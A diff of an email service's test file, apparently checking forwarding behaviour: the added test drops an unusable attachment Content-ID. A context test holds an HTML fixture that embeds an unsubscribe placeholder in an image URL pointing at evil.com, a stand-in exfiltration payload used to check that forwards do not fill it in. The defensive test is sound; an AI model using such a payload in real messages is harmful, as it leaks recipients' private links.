@@ -203,6 +203,14 @@ t.test('a forward has the content and files of the original', async t => {
   for (const text of ['a file', 'an image']) t.match(raw, Buffer.from(text).toString('base64'))
 })
 
+t.test('a file whose Content-ID a caller could not give is forwarded without it', async t => {
+  const attachments = [{ filename: 'i.png', content: 'an image', cid: 'an image@y.com' }]
+  const id = await receive(work, account, await compose({ subject: 'News', text: 'It is', attachments }))
+  const { status, body } = await ask(id, 'forward', { to: ['bob@y.com'] })
+  t.equal(status, 200)
+  shows(t, await emailOf(body), { attachments: [{ filename: 'i.png', content_id: null }] })
+})
+
 t.test('a forward has no link to unsubscribe in place of a placeholder that a stranger wrote', async t => {
   const html = '<img src="https://evil.com/?u={{ unsubscribe_url }}">{{{UNSUBSCRIBE_URL}}} {{name}}'
   const both = await receive(work, account, await compose({ text: 'At {{unsubscribe_url|none}} {{name}}', html }))
